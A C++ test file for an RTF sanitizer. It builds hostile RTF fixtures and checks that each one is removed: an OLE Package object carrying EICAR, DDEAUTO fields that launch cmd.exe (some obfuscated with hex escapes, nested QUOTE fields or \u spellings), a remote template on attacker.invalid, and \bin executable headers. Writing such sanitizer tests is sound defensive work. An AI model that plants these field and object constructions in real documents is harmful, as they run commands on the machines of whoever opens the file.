// sanitizer.rtf: hostile RTF built in code (an OLE Package object carrying EICAR, DDE fields,
// \bin payloads, nesting bombs) and the corpus' RTF with OLE objects; checked by searching the
// output, by clamscan, and by LibreOffice + pdftotext/pdfimages where installed.
#include "sanitizers/rtf/rtf.h"

#include <zlib.h>

#include <algorithm>
#include <catch2/catch.hpp>

#include "support/sanitizer_run.h"
#include "support/test_support.h"
#include "support/tools.h"

using namespace mugai;
using namespace mugai::sanitizers::rtf;
namespace fs = std::filesystem;

namespace {

Outcome run(const std::string& data, Limits limits = {}, Options options = {}) {
  return mugai::test::applyOnce(RtfSanitizer(options), mugai::test::partOf(data, "text/rtf"),
                                limits);
}

bool hasFinding(const Outcome& o, const std::string& prefix) {
  return mugai::test::hasFinding(o, "removed", prefix, /*prefix=*/true);
}

std::string hex(const std::string& s) {
  static const char* d = "0123456789abcdef";
  std::string out;
  for (unsigned char c : s) {
    out += d[c >> 4];
    out += d[c & 15];
  }
  return out;
}

std::string be32(std::uint32_t v) {
  std::string s(4, '\0');
  for (int i = 0; i < 4; ++i)
    s[static_cast<std::size_t>(i)] = static_cast<char>((v >> (24 - 8 * i)) & 0xFF);
  return s;
}

std::string le32(std::uint32_t v) {
  std::string s(4, '\0');
  for (int i = 0; i < 4; ++i)
    s[static_cast<std::size_t>(i)] = static_cast<char>((v >> (8 * i)) & 0xFF);
  return s;
}

/// A small valid PNG (an 8x8 gradient) made with zlib, for the \pict that must survive.
std::string png() {
  std::string raw;
  for (int y = 0; y < 8; ++y) {
    raw += '\0';
    for (int x = 0; x < 8; ++x)
      raw += std::string{static_cast<char>(x * 32), static_cast<char>(y * 32), '\x80'};
  }
  uLongf zlen = compressBound(static_cast<uLong>(raw.size()));
  std::string z(zlen, '\0');
  compress(reinterpret_cast<Bytef*>(z.data()), &zlen, reinterpret_cast<const Bytef*>(raw.data()),
           static_cast<uLong>(raw.size()));
  z.resize(zlen);
  auto chunk = [](const std::string& type, const std::string& body) {
    std::string tb = type + body;
    uLong crc = crc32(0, reinterpret_cast<const Bytef*>(tb.data()), static_cast<uInt>(tb.size()));
    return be32(static_cast<std::uint32_t>(body.size())) + tb +
           be32(static_cast<std::uint32_t>(crc));
  };
  std::string ihdr = be32(8) + be32(8) + std::string("\x08\x02\x00\x00\x00", 5);
  return std::string("\x89PNG\r\n\x1a\n", 8) + chunk("IHDR", ihdr) + chunk("IDAT", z) +
         chunk("IEND", "");
}

std::string eicar() {
  fs::path p = mugai::test::generatedDir() / "eicar.com";
  std::error_code ec;
  if (!fs::exists(p, ec)) return "harmless stand-in payload";
  return mugai::test::readFile(p);
}

/// OLE1 "Package" object data (OLEVersion, FormatID 2, class "Package", native data).
std::string packageObjdata(const std::string& payload) {
  std::string native = std::string("\x02\x00", 2) + "eicar.com" + std::string(1, '\0') +
                       "C:\\eicar.com" + std::string(1, '\0') + std::string("\x00\x00\x03\x00", 4) +
                       le32(13) + "C:\\eicar.com" + std::string(1, '\0') +
                       le32(static_cast<std::uint32_t>(payload.size())) + payload;
  std::string ole = le32(0x00000501) + le32(2) + le32(8) + std::string("Package\0", 8) + le32(0) +
                    le32(0) + le32(static_cast<std::uint32_t>(native.size())) + native;
  return hex(ole);
}

const std::string kHead = "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0\\froman Times New Roman;}}\n";

std::string objectRtf() {
  return kHead +
         "\\pard Before the object.\\par\n"
         "{\\object\\objemb\\objupdate\\objautlink\\objw1287\\objh832{\\*\\objclass "
         "Package}{\\*\\objdata " +
         packageObjdata(eicar()) +
         "}{\\result{\\pict\\pngblip\\picw8\\pich8\\picwgoal1440\\pichgoal1440 " + hex(png()) +
         "}}}\n\\pard After the object.\\par\n}";
}

std::string ddeRtf() {
  return kHead +
         "\\pard Quarterly figures:\\par\n"
         "{\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k "
         "calc.exe\"}}{\\fldrslt {Shown result one}}}\\par\n"
         "{\\field{\\*\\fldinst {\\'44\\'44\\'45AUTO c:\\\\x.exe}}{\\fldrslt Shown result "
         "two}}\\par\n"
         "{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\y.exe}}{\\fldrslt Shown result three}}\\par\n"
         "{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69}{\\fldrslt DDE}} "
         "c:\\\\z.exe}{\\fldrslt Shown result four}}\\par\n"
         "{\\field{\\*\\fldinst INCLUDEPICTURE \"http://example.invalid/x.png\" \\\\d}{\\fldrslt "
         "Shown picture}}\\par\n"
         "{\\field{\\*\\fldinst HYPERLINK \"https://www.example.lg.jp/\"}{\\fldrslt Our "
         "site}}\\par\n}";
}

std::string rebuilt(const Outcome& o) {
  REQUIRE(o.replacement);
  return o.replacement->data;
}

std::string pdfText(const fs::path& file, const fs::path& tmp, std::string* pdf_path = nullptr) {
  auto conv = mugai::test::runTool(
      {"soffice", "-env:UserInstallation=file://" + (tmp / "lo").string(), "--headless",
       "--convert-to", "pdf", "--outdir", tmp.string(), file.string()},
      std::chrono::seconds(120));
  REQUIRE(conv.exit_code == 0);
  fs::path pdf = tmp / file.filename();
  pdf.replace_extension(".pdf");
  REQUIRE(fs::exists(pdf));
  if (pdf_path) *pdf_path = pdf.string();
  auto text = mugai::test::runTool({"pdftotext", pdf.string(), "-"});
  REQUIRE(text.exit_code == 0);
  return text.output;
}

}  // namespace

TEST_CASE("rtf: an OLE Package object goes, its shown picture and the text stay", "[rtf]") {
  std::string in = objectRtf();
  Outcome o = run(in);
  REQUIRE(o.verdict == Verdict::Modified);
  CHECK(o.reason == Reason::CdrRebuilt);
  CHECK(hasFinding(o, "\\object (embedded object, class Package)"));
  std::string out = rebuilt(o);
  for (const char* gone :
       {"\\object", "\\objdata", "\\objclass", "\\objupdate", "\\objautlink", "Package"})
    CHECK(out.find(gone) == std::string::npos);
  CHECK(out.find(hex(eicar().substr(0, 16))) == std::string::npos);
  CHECK(out.find("Before the object.") != std::string::npos);
  CHECK(out.find("After the object.") != std::string::npos);
  CHECK(out.find("{\\pict\\pngblip") != std::string::npos);
  CHECK(out.find(hex(png())) != std::string::npos);

  mugai::test::TempDir tmp;
  mugai::test::writeFile(tmp.path() / "in.rtf", in);
  mugai::test::writeFile(tmp.path() / "out.rtf", out);
  if (!mugai::test::toolMissing("clamscan") &&
      fs::exists(mugai::test::generatedDir() / "eicar.com")) {
    std::string sigs = (mugai::test::sourceDir() / "rules" / "signatures").string();
    auto before = mugai::test::runTool(
        {"clamscan", "--no-summary", "-d", sigs, (tmp.path() / "in.rtf").string()});
    auto after = mugai::test::runTool(
        {"clamscan", "--no-summary", "-d", sigs, (tmp.path() / "out.rtf").string()});
    INFO(before.output << after.output);
    CHECK(before.exit_code == 1);  // libclamav decodes \objdata and finds EICAR
    CHECK(after.exit_code == 0);
  }
  if (mugai::test::toolMissing("soffice") || mugai::test::toolMissing("pdftotext")) return;
  std::string pdf;
  std::string text = pdfText(tmp.path() / "out.rtf", tmp.path(), &pdf);
  CHECK(text.find("Before the object.") != std::string::npos);
  CHECK(text.find("After the object.") != std::string::npos);
  if (mugai::test::toolMissing("pdfimages")) return;
  auto images = mugai::test::runTool({"pdfimages", "-list", pdf});
  INFO(images.output);
  CHECK(images.output.find("image") != std::string::npos);  // the picture survived the trip
}

TEST_CASE("rtf: DDE, INCLUDE and computed fields go, their shown results stay",
          "[rtf][adversarial]") {
  Outcome o = run(ddeRtf());
  REQUIRE(o.verdict == Verdict::Modified);
  std::string out = rebuilt(o);
  CHECK(out.find("DDEAUTO") == std::string::npos);
  CHECK(out.find("\\'44\\'44\\'45") == std::string::npos);
  CHECK(out.find("AUTO c:") == std::string::npos);
  CHECK(out.find("QUOTE") == std::string::npos);
  CHECK(out.find("INCLUDEPICTURE") == std::string::npos);
  CHECK(out.find("cmd.exe") == std::string::npos);
  for (const char* shown : {"Shown result one", "Shown result two", "Shown result three",
                            "Shown result four", "Shown picture", "Quarterly figures:"})
    CHECK(out.find(shown) != std::string::npos);
  CHECK(out.find("HYPERLINK") != std::string::npos);  // a plain link is not active on open
  CHECK(hasFinding(o, "field DDEAUTO"));
  CHECK(hasFinding(o, "field with a computed instruction"));
  CHECK(hasFinding(o, "field INCLUDEPICTURE"));
  std::size_t removed = std::count_if(o.findings.begin(), o.findings.end(),
                                      [](const Finding& f) { return f.key == "removed"; });
  CHECK(removed == 5);
  if (mugai::test::toolMissing("soffice") || mugai::test::toolMissing("pdftotext")) return;
  mugai::test::TempDir tmp;
  mugai::test::writeFile(tmp.path() / "dde.rtf", out);
  std::string text = pdfText(tmp.path() / "dde.rtf", tmp.path());
  CHECK(text.find("Shown result one") != std::string::npos);
  CHECK(text.find("Our site") != std::string::npos);
}

TEST_CASE("rtf: data stores, templates, class ids, stray objdata and mail merge sources go",
          "[rtf]") {
  std::string in = kHead +
                   "{\\*\\template \\\\\\\\attacker.invalid\\\\share\\\\t.dotm}"
                   "{\\*\\datastore 0105000002000000}{\\*\\oleclsid \\'7b00020906-0000\\'7d}"
                   "{\\*\\mmconnectstr Provider=x}Kept text{\\*\\objdata 01050000}\\par}";
  Outcome o = run(in);
  std::string out = rebuilt(o);
  CHECK(out == kHead + "Kept text\\par}");
  CHECK(hasFinding(o, "{\\template}"));
  CHECK(hasFinding(o, "{\\datastore}"));
  CHECK(hasFinding(o, "{\\oleclsid}"));
  CHECK(hasFinding(o, "{\\objdata}"));
  CHECK(hasFinding(o, "{\\mmconnectstr}"));
  // Office Math properties (Word 2007+ write them in every RTF) are not mail merge words.
  std::string math = kHead + "{\\*\\mmathPr\\mmathFont34\\mbrkBin0}Text\\par}";
  CHECK(run(math).verdict == Verdict::Pass);
  // A dangerous word anywhere in a group condemns the group, not only as its first word.
  Outcome hidden = run(kHead + "{\\rtlch\\fs20 x\\objdata 0105}tail\\par}");
  CHECK(rebuilt(hidden) == kHead + "tail\\par}");
  // The root group itself holding an object: nothing would be left, so it fails closed.
  CHECK(run("{\\rtf1\\object\\objemb{\\*\\objdata 00}}").reason == Reason::CdrFailed);
}

TEST_CASE("rtf: \\bin payloads stay only inside pictures", "[rtf][adversarial]") {
  using namespace std::string_literals;
  std::string in =
      kHead +
      "{\\pict\\wmetafile8\\picw10\\pich10\\bin4 \x01\x02{}}A{\\*\\foo\\bin6 MZ\x90\x00\x03\x00}B\\par}"s;
  Outcome o = run(in);
  std::string out = rebuilt(o);
  CHECK(out.find("\\bin4 \x01\x02{}") != std::string::npos);
  CHECK(out.find("MZ") == std::string::npos);
  CHECK(out.find("\\bin6") == std::string::npos);
  CHECK(hasFinding(o, "\\bin data outside pictures (1 runs, 6 bytes)"));
  CHECK(run(kHead + "\\bin99999 xx}").reason == Reason::CdrFailed);
  CHECK(run(kHead + "\\bin-5 xx}").reason == Reason::CdrFailed);
}

TEST_CASE("rtf: nesting bomb, unbalanced and garbage input fail closed", "[rtf][adversarial]") {
  Outcome bomb = run("{\\rtf1 " + std::string(100000, '{') + "x" + std::string(100000, '}') + "}");
  CHECK(bomb.reason == Reason::CdrFailed);
  CHECK(bomb.verdict == Verdict::PartRemoved);
  CHECK(run("{\\rtf1 " + std::string(100000, '{')).reason == Reason::CdrFailed);
  // A missing final brace or two is common in hand-made RTF: closed for the writer.
  Outcome open1 = run("{\\rtf1\\ansi {\\b bold} plain");
  CHECK(rebuilt(open1) == "{\\rtf1\\ansi {\\b bold} plain}");
  CHECK(run("{\\rtf1 " + std::string(10, '{') + "x").reason == Reason::CdrFailed);
  std::string garbage = kHead;
  for (int i = 0; i < 5000; ++i) garbage += static_cast<char>(i % 9);
  CHECK(run(garbage + "}").reason == Reason::CdrFailed);
  CHECK(run("PK\x03\x04 not rtf").reason == Reason::ParseMalformed);
  CHECK(run(kHead + "\\" + std::string(40, 'a') + " x}").reason == Reason::CdrFailed);
  CHECK(run(kHead + "\\fs12345678901 x}").reason == Reason::CdrFailed);
  Limits tight;
  tight.decoded_bytes_limit = 1024;
  CHECK(run(kHead + std::string(4000, 'x') + "}", tight).reason == Reason::LimitDecodedBytes);
  Options small;
  small.max_input_bytes = 1024;
  CHECK(run(kHead + std::string(4000, 'x') + "}", {}, small).reason == Reason::CdrFailed);
}

TEST_CASE("rtf: data after the document end is dropped, clean RTF is kept as it is", "[rtf]") {
  std::string clean =
      kHead + "\\pard Hello {\\b world}\\par\n{\\pict\\pngblip " + hex(png()) + "}\\par}";
  Outcome same = run(clean);
  CHECK(same.verdict == Verdict::Pass);
  Outcome tail = run(clean + "\r\n" + std::string(3000, 'Z'));
  CHECK(rebuilt(tail) == clean);
  CHECK(hasFinding(tail, "data after the end of the document"));
  // Idempotent: what we wrote is left alone the second time.
  std::string once = rebuilt(run(objectRtf()));
  CHECK(run(once).verdict == Verdict::Pass);
  std::string dde = rebuilt(run(ddeRtf()));
  CHECK(run(dde).verdict == Verdict::Pass);
}

TEST_CASE("rtf: corpus RTF with OLE objects are rebuilt without them", "[rtf][corpus]") {
  auto corpus = MUGAI_REQUIRE_CORPUS();
  if (!corpus) return;
  mugai::test::TempDir tmp;
  for (const char* rel :
       {"office/libreoffice/sw/qa/extras/rtfimport/data/ole-inline.rtf",
        "office/libreoffice/writerfilter/qa/cppunittests/dmapper/data/paste-ole.rtf"}) {
    INFO(rel);
    std::string in = mugai::test::readFile(*corpus / rel);
    Outcome o = run(in);
    REQUIRE(o.verdict == Verdict::Modified);
    CHECK(hasFinding(o, "\\object (embedded object"));
    std::string out = rebuilt(o);
    CHECK(out.find("\\object") == std::string::npos);
    CHECK(out.find("\\objdata") == std::string::npos);
    CHECK(out.find("\\pict") != std::string::npos);  // the object's rendering stays
    fs::path file = tmp.path() / fs::path(rel).filename();
    mugai::test::writeFile(file, out);
    if (!mugai::test::toolMissing("soffice") && !mugai::test::toolMissing("pdftotext"))
      pdfText(file, tmp.path());
  }
}

// Red-team findings (2026-11-23): field instructions Word reads as DDEAUTO.
TEST_CASE("rtf: DDEAUTO behind an ignorable group or spelled with \\u is still a DDE field",
          "[rtf][adversarial]") {
  for (const std::string& in :
       {std::string("{\\rtf1 {\\field{\\*\\fldinst {\\*\\bkmkstart x}DDEAUTO "
                    "c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt shown}}}"),
        std::string("{\\rtf1 {\\field{\\*\\fldinst DDE\\u65 ?UTO "
                    "c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt shown}}}")}) {
    INFO(in);
    Outcome o = run(in);
    REQUIRE(o.replacement);
    CHECK(o.replacement->data.find("cmd.exe") == std::string::npos);
    CHECK(o.replacement->data.find("shown") != std::string::npos);
  }
}
